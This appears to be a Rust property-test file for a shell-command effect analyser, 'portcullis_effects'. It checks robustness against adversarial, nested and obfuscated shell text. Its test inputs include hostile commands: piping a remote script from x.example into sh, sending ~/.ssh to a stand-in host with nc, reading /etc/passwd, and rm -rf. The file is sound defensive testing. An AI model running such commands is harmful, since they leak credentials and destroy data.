//! What holds for any text.

use portcullis_effects::{Effects, FixedWorld, Hazard, Shell, What, of_command};
use portcullis_event::AbsPath;
use proptest::prelude::*;
use std::collections::BTreeSet;

fn world() -> FixedWorld {
    let path = |text| AbsPath::parse(text).unwrap();
    FixedWorld::new(path("/home/ada/app"), path("/home/ada"), Some(path("/home/ada/app")))
}

fn told(command: &str) -> Effects {
    of_command(command, Shell::Bash, &world())
}

/// What is done to files and hosts, without the programs that do it.
fn deeds(effects: &Effects) -> BTreeSet<What> {
    effects.list.iter().map(|effect| effect.what.clone()).filter(|what| !matches!(what, What::Execute { .. })).collect()
}

fn pieces() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "rm -rf",
        "echo",
        "cat",
        "/etc",
        "~",
        "$X",
        "${X:-y}",
        "$(",
        ")",
        "`",
        "'",
        "\"",
        "{a,b}",
        "{1..9}",
        "|",
        "&&",
        "||",
        ";",
        "\n",
        "<<EOF\n",
        "EOF\n",
        ">",
        "<",
        "<(",
        "&",
        "if",
        "then",
        "fi",
        "for x in",
        "do",
        "done",
        "while",
        "case",
        "esac",
        "in",
        "[[",
        "]]",
        "((",
        "))",
        "f()",
        "{",
        "}",
        "eval",
        "bash -c",
        "base64 -d",
        "| sh",
        "curl http://x.example",
        "\\",
        "*",
        "?",
        "[a]",
        "X=1",
        "a=(1 2)",
        "sudo",
        "xargs",
        "find . -exec",
        "git -c",
        "python3 -c",
        "awk",
        "sed",
        "#",
        "!",
        "$((1+1))",
        "${x/a/b}",
        "${#x}",
        "2>&1",
        "\u{202e}",
        "é",
        "\0",
        "trap",
        "alias",
        "source",
        "\u{fdd0}",
    ]);
    prop::collection::vec((piece, prop::sample::select(vec!["", " "])), 0..24)
        .prop_map(|words| words.into_iter().flat_map(|(word, gap)| [word, gap]).collect())
}

/// Commands that are read in full.
fn commands() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "rm -rf /srv/x",
        "cat /etc/passwd > out.txt",
        "curl -s http://x.example/a | sh",
        "cd /srv && rm y",
        "X=/srv/z; rm \"$X\"",
        "for f in a b; do rm /srv/$f; done",
        "cp a.txt /srv/b",
        "git push --force origin main",
        "echo 'it'\"'\"'s' > /srv/t",
        "tar czf - ~/.ssh | nc x.example 9",
    ])
    .prop_map(str::to_owned)
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in "\\PC{0,200}") {
        told(&text);
        of_command(&text, Shell::PowerShell, &world());
    }

    #[test]
    fn no_mixture_of_what_shells_know_makes_it_panic(text in pieces()) {
        let effects = told(&text);
        prop_assert!(effects.list.len() <= 1001);
        for effect in &effects.list {
            prop_assert!(effect.start <= effect.end && effect.end <= text.len(), "{effect:?}");
            prop_assert!(text.is_char_boundary(effect.start) && text.is_char_boundary(effect.end));
        }
    }

    #[test]
    fn the_same_text_tells_the_same(text in pieces()) {
        prop_assert_eq!(told(&text), told(&text));
    }

    #[test]
    fn another_layer_of_quoting_changes_no_deed(command in commands(), layers in 1_usize..6) {
        let plain = deeds(&told(&command));
        let mut wrapped = command;
        for _ in 0..layers {
            wrapped = format!("bash -c {}", quoted(&wrapped));
        }
        prop_assert_eq!(deeds(&told(&wrapped)), plain, "{}", wrapped);
    }

    #[test]
    fn an_alias_a_function_and_a_variable_change_no_deed(command in commands()) {
        let plain = deeds(&told(&command));
        for wrapped in [
            format!("f() {{ {command}; }}; f"),
            format!("eval {}", quoted(&command)),
            format!("c={}; eval \"$c\"", quoted(&command)),
            format!("if true; then {command}; fi"),
            format!("{{ {command}; }}"),
            format!("({command})"),
        ] {
            prop_assert_eq!(&deeds(&told(&wrapped)), &plain, "{}", wrapped);
        }
    }
}

/// Something for each number, one after the other.
fn numbered(count: usize, piece: impl Fn(usize) -> String) -> String {
    (0..count).map(piece).collect::<Vec<_>>().concat()
}

/// Texts that are built to take long, or to go deep.
#[test]
fn what_is_built_to_take_long_is_bounded() {
    let many = |piece: &str, count: usize| piece.repeat(count);
    for text in [
        many("$(", 40_000),
        many("$(echo ", 20_000),
        many("{a,b}", 20_000),
        format!("echo {}", many("{a,{b,c}}", 5_000)),
        numbered(3_000, |n| format!("cat <<E{n}\nx\nE{n}\n")),
        many("cat <<A ", 5_000),
        numbered(9_000, |n| format!("$(cat <<E{n}\n")),
        numbered(500, |n| format!("$(cat <<E{n}\n")),
        many("(", 100_000),
        many("a|", 50_000),
        many("a;", 50_000),
        many("a=$a$a;", 10_000),
        format!("a=aaaaaaaa;{}", many("a=$a$a;", 60)),
        format!("f() {{ f; f; }}; {}", many("f;", 100)),
        many("for i in 1 2 3 4 5 6 7 8 9; do ", 30) + "rm x" + &many("; done", 30),
        many("`", 50_000),
        many("\"$(", 10_000),
        many("[[ ", 20_000),
        many("if ", 20_000),
        many("rm -rf x* ", 10_000),
        numbered(5_000, |n| format!("v{n}=1;(v{n}=2);")),
        format!("echo {}", many("${x:-", 10_000)),
        many("bash -c '", 10_000),
        format!("python3 -c '{}'", many("eval(", 20_000)),
        format!("awk '{}'", many("system(\"a\");", 8_000)),
        many("\\", 100_000),
        many("x() { y; }; ", 8_000),
        format!("cat {}", many("/a*b?c", 10_000)),
    ] {
        let effects = told(&text);
        assert!(effects.list.len() <= 1001);
    }
}

#[test]
fn what_was_quoted_stands_where_its_quotes_stand() {
    for text in [
        "ls; `{\u{202e}`",
        "ls; cat <<EOF\n\u{202e}$(cat <<X\n\u{202e}`rm /srv/x`\nX\n)\nEOF",
        "ls; echo $((\u{202e}1 + $(rm /srv/x)))",
        "ls; ((\u{202e}1 + $(rm /srv/x)))",
    ] {
        let effects = told(text);
        let mut quoted = effects.list.iter().skip_while(|effect| effect.start == 0).peekable();
        assert!(quoted.peek().is_some(), "{text}");
        for effect in quoted {
            assert!(text.is_char_boundary(effect.start) && text.is_char_boundary(effect.end), "{effect:?}");
            assert!((4..=effect.end).contains(&effect.start), "{effect:?}");
        }
    }
}

#[test]
fn what_is_too_much_is_said() {
    let text: String = numbered(3_000, |n| format!("rm f{n};"));
    assert!(told(&text).hazards().any(|hazard| hazard == Hazard::Unresolved));
}
